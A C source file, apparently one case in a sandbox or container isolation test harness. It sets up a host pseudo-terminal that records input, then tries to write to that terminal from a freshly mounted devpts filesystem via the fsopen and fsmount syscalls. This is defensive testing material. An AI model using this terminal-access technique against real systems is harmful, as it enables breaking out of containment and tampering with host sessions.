/* Mounts the file system of terminals anew and writes on the host's. */
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

/* A terminal of the host, whose keeper notes what is typed into it. */
void victim(void) {
    char byte;
    const char *mark = own_path("mark");
    int master = (int)MAKE(posix_openpt(O_RDWR | O_NOCTTY));
    MAKE(grantpt(master));
    MAKE(unlockpt(master));
    int slave = (int)MAKE(open(ptsname(master), O_RDWR | O_NOCTTY));
    MAKE(fchmod(slave, 0666));
    struct termios raw;
    MAKE(tcgetattr(slave, &raw));
    cfmakeraw(&raw);
    MAKE(tcsetattr(slave, TCSANOW, &raw));
    ready("%s %s", ptsname(master), mark);
    struct pollfd wait[2] = {{master, POLLIN, 0}, {slave, POLLIN, 0}};
    while (poll(wait, 2, -1) > 0) {
        MAKE(read(wait[0].revents & POLLIN ? master : slave, &byte, 1));
        hit(mark);
    }
}
void check(int n, char **word) { check_hit(word[n - 1]); }

void attack(int n, char **word) {
    char path[64];
    (void)n;
    int context = (int)TRY(syscall(SYS_fsopen, "devpts", 0));
    TRY(syscall(SYS_fsconfig, context, 6, NULL, NULL, 0));
    int tree = (int)TRY(syscall(SYS_fsmount, context, 0, 0));
    /* A new mount has terminals of its own; /dev/pts, where the host's are, is the control's. */
    snprintf(path, sizeof path, "%s", strrchr(word[0], '/') + 1);
    int fd = openat(tree, path, O_RDWR | O_NOCTTY);
    if (fd < 0) fd = (int)TRY(open(word[0], O_RDWR | O_NOCTTY));
    TRY(write(fd, "x", 1));
    ask();
}
